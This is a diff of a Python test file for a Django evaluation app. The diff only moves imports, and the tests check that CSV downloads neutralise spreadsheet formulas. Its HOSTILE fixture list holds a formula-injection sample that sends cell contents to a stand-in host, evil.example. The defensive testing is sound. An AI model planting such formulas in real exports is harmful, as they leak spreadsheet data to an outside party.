@@ -1,7 +1,7 @@
 """Every CSV the app serves is safe to open in a spreadsheet: a cell whose text starts with
 =, +, -, @, a tab or a carriage return gets a leading ' (the run report's CSV, any member's
 download, wrote query ids, categories and strata raw); both downloads write through one helper,
-annotation.spreadsheets, so the rule lives in one place."""
+goldsmith.formats.spreadsheets, so the rule lives in one place."""
 
 from __future__ import annotations
 
@@ -12,13 +12,13 @@ import pytest
 from django.test import Client
 
 from annotation.services.goldsets import LoadedGoldset, golden_set_version_import
-from evaluation.formats import GoldenQuery, GoldJudgment
 from evaluation.models import RunState
 from evaluation.services import (
     evaluation_run_create,
     evaluation_run_execute_inline,
     retriever_create,
 )
+from goldsmith.formats.core import GoldenQuery, GoldJudgment
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"open")',
@@ -110,8 +110,8 @@ def test_the_golden_set_csv_neutralises_formulas_from_the_api_and_the_page(perso
 def test_both_downloads_write_through_the_one_helper():
     import inspect
 
-    from annotation import goldset_io
     from evaluation.services import reports
+    from goldsmith.formats import goldset as goldset_io
 
     for function in (goldset_io.csv_pieces, reports.report_csv):
         source = inspect.getsource(function)
